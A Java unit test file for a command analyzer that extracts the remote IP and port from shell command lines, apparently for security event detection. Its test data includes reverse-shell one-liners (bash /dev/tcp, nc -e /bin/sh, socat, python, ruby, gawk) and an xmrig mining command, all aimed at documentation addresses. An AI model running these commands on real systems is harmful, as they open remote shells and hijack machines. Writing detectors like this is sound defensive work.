package org.hansho.analyze;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.hansho.event.Analyzer;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CommandPeerAnalyzerTest {
  private static final Analyzer ANALYZER = new CommandPeerAnalyzer();

  private static Map<String, List<String>> analyze(String line) {
    return Commands.analyzeLine(ANALYZER, line);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      textBlock =
          """
          bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 | 203.0.113.9 4444
          sh -c exec 5<>/dev/udp/2001:db8::9/53 | 2001:db8::9 53
          nc -e /bin/sh 203.0.113.9 4444 | 203.0.113.9 4444
          socat exec:bash,pty tcp:203.0.113.9:443 | 203.0.113.9 443
          openssl s_client -quiet -connect [2001:db8::9]:443 | 2001:db8::9 443
          python3 -c s.connect(("203.0.113.9",4444));os.dup2(0,1) | 203.0.113.9 4444
          ruby -e TCPSocket.new('203.0.113.9', 4444) | 203.0.113.9 4444
          gawk BEGIN{s="/inet/tcp/0/203.0.113.9/4444"} | 203.0.113.9 4444
          xmrig -o stratum+tcp://203.0.113.9:3333 -u wallet | 203.0.113.9 3333
          sh -c nc 127.0.0.1 80; nc 203.0.113.9 4444 | 203.0.113.9 4444
          """)
  void thePeerIsReadHoweverItIsWritten(String line, String expected) {
    String[] parts = expected.split(" ");
    assertThat(analyze(line))
        .containsEntry("command.peer.ip", List.of(parts[0]))
        .containsEntry("command.peer.port", List.of(parts[1]));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "ping 203.0.113.9",
        "ip route add 203.0.113.0/24 via 192.0.2.1",
        "nc -l 4444",
        "nc 127.0.0.1 4444",
        "nc ::1 4444",
        "nc 203.0.113.9 70000",
        "nc 203.0.113.999 4444",
        "app --version 1.203.0.113.9 4444",
        "curl http://miner.example.com:3333",
        "echo [::1]:80 0.0.0.0:80"
      })
  void whereNoPeerIsNamedNothingIsAdded(String line) {
    assertThat(analyze(line)).isEmpty();
  }
}
